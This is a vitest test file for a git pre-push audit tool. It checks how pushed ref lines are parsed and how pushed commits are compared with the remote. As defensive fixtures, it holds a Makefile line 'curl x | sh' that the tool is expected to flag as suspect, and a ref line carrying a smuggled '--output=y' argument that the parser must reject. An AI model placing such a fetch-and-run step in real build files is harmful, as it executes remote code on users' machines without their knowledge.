import { afterAll, expect, it } from 'vitest';
import { auditPushed, parsePushedRefs, pushedBase } from '../../../../../src/cli/audit/sources/pushed.ts';
import { openGitObjects } from '../../../../../src/review/commits/git-objects.ts';
import { GitScene } from '../../../../support/review/git-scene.ts';
import { requestOf } from '../../../../support/review/source-request.ts';

const scene = new GitScene();
afterAll(() => scene[Symbol.dispose]());
const NONE = '0'.repeat(40);

it('reads the lines of git, expressions with spaces too, and leaves out removals', () => {
  const [id, other] = ['a'.repeat(40), 'b'.repeat(40)];
  const text = `refs/heads/x ${id} refs/heads/y ${NONE}\n(delete) ${NONE} refs/heads/z ${id}\nHEAD^{/a b} ${id} refs/heads/w ${other}\n`;
  expect(parsePushedRefs(text)).toEqual([
    { localRef: 'refs/heads/x', localId: id, remoteRef: 'refs/heads/y', remoteId: undefined },
    { localRef: 'HEAD^{/a b}', localId: id, remoteRef: 'refs/heads/w', remoteId: other },
  ]);
  expect(parsePushedRefs('')).toEqual([]);
  expect(() => parsePushedRefs('refs/heads/x --output=y refs/heads/x z\n')).toThrow('is not a line that git writes');
});

it('compares each ref with what the remote has of it', async () => {
  const first = scene.commit({ Makefile: 'all:\n', 'a.txt': 'a\n' });
  const second = scene.commit({ Makefile: 'all:\n\tcurl x | sh\n' });
  const third = scene.commit({ 'a.txt': 'b\n' });
  scene.git('update-ref', 'refs/remotes/origin/main', second);
  const git = openGitObjects(scene.repo, scene.env);
  const base = (remoteId?: string, remote?: string) => pushedBase(git, { remoteId }, third, remote);

  // The remote's own commit, then the tracking branches for a new branch, or for a commit that was never fetched.
  expect(await base(first)).toBe(first);
  expect(await base(undefined, 'origin')).toBe(second);
  expect(await base(undefined, 'ssh://elsewhere/x')).toBe(second);
  expect(await base('d'.repeat(40))).toBe(second);
  scene.git('update-ref', '-d', 'refs/remotes/origin/main');
  expect(await base(undefined, 'origin')).toBe(undefined);

  // A tag leads to its commit, and a blob to none.
  scene.git('tag', '-am', 'v1', 'v1');
  const tag = scene.git('rev-parse', 'refs/tags/v1').trim();
  expect(tag).not.toBe(third);
  const push = async (line: string) =>
    (await auditPushed(requestOf(scene), parsePushedRefs(line), undefined)).map(({ review }) =>
      review.items.map(({ change, state }) => `${state} ${change.path}`),
    );
  const both = `refs/tags/v1 ${tag} refs/tags/v1 ${first}\nx ${third} refs/heads/x ${third}\n`;
  expect(await push(both)).toEqual([['suspect Makefile', 'clean a.txt']]);
  const blob = scene.git('rev-parse', 'HEAD:a.txt').trim();
  await expect(push(`refs/tags/b ${blob} refs/tags/b ${NONE}\n`)).rejects.toThrow('is not a commit');
});
